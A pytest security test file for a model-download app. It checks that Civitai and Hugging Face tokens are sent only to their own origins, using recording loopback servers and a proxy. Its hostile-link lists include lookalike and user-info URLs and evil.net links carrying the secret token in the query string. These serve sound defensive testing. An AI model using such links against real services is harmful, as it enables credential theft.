"""Tokens go to their own site only, whatever URL a payload names: proven by servers that record.

Every site here is a real loopback server: the fake Civitai (its API, and ``/api/download`` redirecting
like civitai.com), the fake Hub, and a file server on *another port* standing for a CDN, a mirror or an
attacker. Each records the request line and the headers it got. A download is started the ways a user
starts one — ``python main.py download`` and the app's download service — with a Civitai key and a
Hugging Face token set, and links that try every trick: another port, another host name for the same
machine, ``site@evil`` user-info, the key in the query string, a redirect off the site. Host names that
cannot be reached on loopback (a lookalike ``civitai.com.evil.net``, an ``http`` downgrade of an
``https`` site) are sent through the recording server used as an HTTP proxy, which sees the request
exactly as the named host would. The recorder must never see a token; the real site must.
"""

from __future__ import annotations

import json
import secrets
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import requests

from app.context import AppContext
from app.secrets import TokenStore
from core.downloads import DownloadRequest, DownloadSource
from core.net import make_session
from core.site_tokens import SiteToken, TokenPolicy
from core.sources.errors import RemoteError
from tests.app.download_sites import FILE_PATH, VERSION_ID, Sites, loopback_sites
from tests.app.main_process import run_main
from tests.attack.report import record
from tests.fakes.file_server import Fault, serve_files
from tests.fakes.server import FakeServer

CIVITAI_KEY = "civ-" + secrets.token_hex(12)
HF_TOKEN = "hf_" + secrets.token_hex(12)
KEYS = (CIVITAI_KEY, HF_TOKEN)


def _port(server: FakeServer) -> int:
    return int(server.server_address[1])


def _leaks(server: FakeServer) -> list[str]:
    """Every request ``server`` got that carried a credential or a token anywhere (line or headers)."""
    found = []
    for method, path, headers in server.requests:
        text = path + "\n" + "\n".join(f"{k}: {v}" for k, v in headers.items())
        if any(key.lower() == "authorization" for key in headers) or any(k in text for k in KEYS):
            found.append(f"{method} {path} {headers}")
    return found


def _authorized(server: FakeServer, token: str) -> list[str]:
    """The paths ``server`` got with ``Authorization: Bearer token`` (header names in any case)."""
    return [
        path
        for _method, path, headers in server.requests
        if {k.lower(): v for k, v in headers.items()}.get("authorization") == f"Bearer {token}"
    ]


@pytest.fixture
def sites(tmp_path: Path) -> Iterator[Sites]:
    with loopback_sites(tmp_path) as made:
        made.env.update(ATELIER_CIVITAI_TOKEN=CIVITAI_KEY, HF_TOKEN=HF_TOKEN)
        yield made


def _main(sites: Sites, *args: str) -> dict[str, object]:
    result = run_main(*args, "--json", env=sites.env, check=True)
    (finished,) = json.loads(result.stdout)
    assert isinstance(finished, dict)
    return finished


# --- python main.py download ----------------------------------------------------------------------------


def test_main_download_sends_the_civitai_key_to_civitai_and_not_to_the_file_host(
    sites: Sites, tmp_path: Path
) -> None:
    """The version's ``downloadUrl`` names the file server (another port): it gets the request, bare."""
    finished = _main(sites, "download", f"civitai:{VERSION_ID}", "--to", str(tmp_path / "lib"))

    assert Path(str(finished["path"])).read_bytes() == sites.lora
    assert [p for m, p, _ in sites.files.requests if m == "GET"] == [FILE_PATH]
    assert _leaks(sites.files) == []
    assert _authorized(sites.civitai, CIVITAI_KEY), "the Civitai API got the key"
    assert not any(HF_TOKEN in str(headers) for _m, _p, headers in sites.civitai.requests)
    record("tokens", tried=1, flagged=1, executed=len(_leaks(sites.files)))


def test_main_download_through_civitais_redirect_drops_the_key_off_the_site(
    sites: Sites, tmp_path: Path
) -> None:
    """``/api/download`` on the Civitai origin gets the key; its 307 to storage on another port does not."""
    storage = sites.files.base_url + FILE_PATH
    version = sites.civitai.state.versions[VERSION_ID]
    version["files"][0]["downloadUrl"] = f"{sites.civitai.base_url}/api/download/models/{VERSION_ID}"
    sites.civitai.state.downloads[VERSION_ID] = storage

    page = f"{sites.civitai.base_url}/models/910001/pixel?modelVersionId={VERSION_ID}"  # as a user pastes it
    finished = _main(sites, "download", page, "--to", str(tmp_path / "lib"))

    assert Path(str(finished["path"])).read_bytes() == sites.lora
    assert f"/api/download/models/{VERSION_ID}" in _authorized(sites.civitai, CIVITAI_KEY)
    assert [p for m, p, _ in sites.files.requests if m == "GET"] == [FILE_PATH]
    assert _leaks(sites.files) == []
    record("tokens", tried=1, flagged=1, executed=len(_leaks(sites.files)))


def test_main_download_from_the_hub_keeps_the_token_on_the_hub(sites: Sites, tmp_path: Path) -> None:
    """The Hub's ``/resolve/`` redirects to a CDN on another port, as for LFS files: the HEAD and the
    redirect carry the token on the Hub, the CDN gets none (and the Civitai key goes nowhere near)."""
    repo = sites.hub.state.repos["someone/pixel-lora"]
    repo.redirects["pixel_lora.safetensors"] = f"{sites.files.base_url}{FILE_PATH}?X-Signed=abc"

    finished = _main(sites, "download", "hf:someone/pixel-lora/pixel_lora.safetensors", "--to", str(tmp_path))

    assert Path(str(finished["path"])).read_bytes() == sites.lora
    assert any("/resolve/" in path for path in _authorized(sites.hub, HF_TOKEN)), "the Hub got the token"
    assert [p for m, p, _ in sites.files.requests if m == "GET"] == [f"{FILE_PATH}?X-Signed=abc"]
    assert _leaks(sites.files) == []
    assert not any(CIVITAI_KEY in str(entry) for entry in sites.hub.requests)
    record("tokens", tried=1, flagged=1, executed=len(_leaks(sites.files)))


# --- the app's download service, hostile links ---------------------------------------------------------


@pytest.fixture
def context(sites: Sites, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[AppContext]:
    for name, value in sites.env.items():
        monkeypatch.setenv(name, value)
    made = AppContext(tmp_path / "profile", tokens=TokenStore(tmp_path / "profile", use_keyring=False))
    yield made
    made.close()


def test_download_service_gives_hostile_links_no_token(
    sites: Sites, context: AppContext, tmp_path: Path
) -> None:
    civitai, files = _port(sites.civitai), _port(sites.files)
    sites.civitai.state.downloads[VERSION_ID] = f"http://127.0.0.1:{files}/via-civitai"
    hostile = {
        # another port of the Civitai host
        f"http://127.0.0.1:{files}/other-port": "/other-port",
        # user-info that reads like the Civitai address: the host is what follows the @
        f"http://127.0.0.1:{civitai}@127.0.0.1:{files}/userinfo": "/userinfo",
        # another name for the same machine
        f"http://localhost:{files}/other-name": "/other-name",
        # the Civitai key and the Hub token in the query string of a foreign link
        f"http://127.0.0.1:{files}/query?token={CIVITAI_KEY}&keep=1&hf={HF_TOKEN}": "/query?keep=1",
        # the Civitai port under another host name, redirecting to the file host
        f"http://localhost:{civitai}/api/download/models/{VERSION_ID}": "/via-civitai",
    }
    for path in {urlsplit(p).path for p in hostile.values()}:
        sites.file_state.add(path, sites.lora)
    service = context.downloads
    for number, url in enumerate(hostile):
        request = DownloadRequest(url, tmp_path / f"d{number}", source=DownloadSource.CIVITAI)
        path = service.downloader.run_one(service.enqueue_request(request, again=True))
        assert path.read_bytes() == sites.lora

    got = [p for m, p, _ in sites.files.requests if m == "GET"]
    assert sorted(got) == sorted(hostile.values())
    assert _leaks(sites.files) == []
    from_civitai_port = [h for _m, _p, h in sites.civitai.requests]
    assert from_civitai_port, "the link on localhost:PORT reached the Civitai server"
    assert all("Authorization" not in h for h in from_civitai_port), "localhost is not the configured host"
    # The same session does send the key to the configured Civitai origin.
    own = f"{sites.civitai.base_url}/api/download/models/{VERSION_ID}"
    service.downloader.run_one(service.enqueue_request(DownloadRequest(own, tmp_path / "own"), again=True))
    assert _authorized(sites.civitai, CIVITAI_KEY) == [f"/api/download/models/{VERSION_ID}"]
    assert _leaks(sites.files) == []
    record("tokens", tried=len(hostile), flagged=len(hostile), executed=len(_leaks(sites.files)))


def test_civitai_api_session_sends_no_key_to_image_hosts(sites: Sites, context: AppContext) -> None:
    """Preview images come from payload URLs (image.civitai.com, or anywhere): fetched without the key."""
    sites.file_state.add("/cover.png", b"\x89PNG" + b"x" * 100)
    assert context.fetch_image(f"{sites.files.base_url}/cover.png").startswith(b"\x89PNG")
    context.civitai().get_version(VERSION_ID)
    assert _authorized(sites.civitai, CIVITAI_KEY) == [f"/api/v1/model-versions/{VERSION_ID}"]
    assert _leaks(sites.files) == []
    record("tokens", tried=1, flagged=1, executed=len(_leaks(sites.files)))


# --- host names loopback cannot reach, through a recording proxy ---------------------------------------


def test_lookalike_hosts_downgrades_and_other_ports_get_no_token() -> None:
    """The policy of a session whose Civitai is ``https://civitai.com``, for links only a proxy can
    reach on a machine without a network. The recorder proxies plain HTTP, so it sees each request as
    the host named in it would; the one link on the real origin (over plain HTTP, for the proxy) is
    the control that shows a token would be seen."""
    hostile = [
        "http://civitai.com/api/download/models/1",  # https site, http link: a downgrade
        "http://civitai.com:8443/api/download/models/1",  # another port
        "http://civitai.com.evil.net/api/download/models/1",  # lookalike subdomain
        "http://evilcivitai.com/api/download/models/1",
        "http://civitai.com@evil.net/api/download/models/1",  # user-info trick
        "http://civitai.com%40evil.net/x",  # an encoded @ is not a user-info separator: a host that fails
        f"http://evil.net/api/download/models/1?token={CIVITAI_KEY}",
        f"http://evil.net/x?a=1&token={CIVITAI_KEY}&b=2",
        "http://huggingface.co/someone/repo/resolve/main/x",  # the other site's origin
    ]
    with serve_files() as (recorder, _state):
        proxies = {"http": recorder.base_url}
        tokens = TokenPolicy(
            SiteToken.fixed("Civitai", "https://civitai.com", CIVITAI_KEY),
            SiteToken.fixed("Hugging Face", "https://huggingface.co", HF_TOKEN),
        )
        session = make_session(auth=tokens, retries=0)
        refused = 0
        for url in hostile:
            planted = {"Authorization": f"Bearer {CIVITAI_KEY}"}  # a caller's header is no way round it
            try:
                session.get(url, proxies=proxies, timeout=5, headers=planted)
            except (requests.RequestException, RemoteError):
                refused += 1  # refused before sending (an address requests will not send) is as good
        assert len(recorder.requests) + refused == len(hostile)
        assert len(recorder.requests) >= len(hostile) - 1, recorder.requests
        assert _leaks(recorder) == []

        control = make_session(
            auth=TokenPolicy(SiteToken.fixed("Civitai", "http://civitai.com", CIVITAI_KEY))
        )
        control.get("http://civitai.com/api/v1/models", proxies=proxies, timeout=5)
        assert _authorized(recorder, CIVITAI_KEY) == ["http://civitai.com/api/v1/models"]
    record("tokens", tried=len(hostile), flagged=len(hostile), executed=0)


def test_a_redirect_to_another_port_of_the_same_host_drops_the_token() -> None:
    """requests itself drops the header on a redirect to another port; the policy decides each hop by
    origin as well (the scheme is part of it: see the proxy test for an ``http`` link of an ``https``
    site), so a redirect hop never carries a token its origin may not have."""
    with serve_files() as (site, site_state), serve_files() as (other, other_state):
        other_state.add("/f", b"data")
        site_state.add("/f", b"")
        site_state.faults["/f"] = Fault(redirect_to=f"{other.base_url}/f")
        session = make_session(auth=TokenPolicy(SiteToken.fixed("Civitai", site.base_url, CIVITAI_KEY)))
        assert session.get(f"{site.base_url}/f", timeout=5).content == b"data"
        assert _authorized(site, CIVITAI_KEY) == ["/f"]
        assert _leaks(other) == []
    record("tokens", tried=1, flagged=1, executed=len(_leaks(other)))


def test_links_that_cannot_be_fetched_never_echo_a_token(
    sites: Sites, context: AppContext, tmp_path: Path
) -> None:
    """A link requests refuses quotes its address in the error; the stored and shown message is redacted."""
    service = context.downloads
    hostile = [
        f"ftp://evil.net/x.safetensors?token={CIVITAI_KEY}",
        f"http://evil%41net/x.safetensors?token={HF_TOKEN}",
        f"http://[::1:{_port(sites.files)}/x?token={CIVITAI_KEY}",
    ]
    for number, url in enumerate(hostile):
        request = DownloadRequest(url, tmp_path / f"h{number}", source=DownloadSource.CIVITAI)
        download_id = service.enqueue_request(request, again=True)
        with pytest.raises(RemoteError) as caught:
            service.downloader.run_one(download_id)
        stored = service.get(download_id).error or ""
        assert stored == caught.value.message
        assert not any(key in stored for key in KEYS), stored
    assert _leaks(sites.files) == []
    record("tokens", tried=len(hostile), flagged=len(hostile), executed=0)
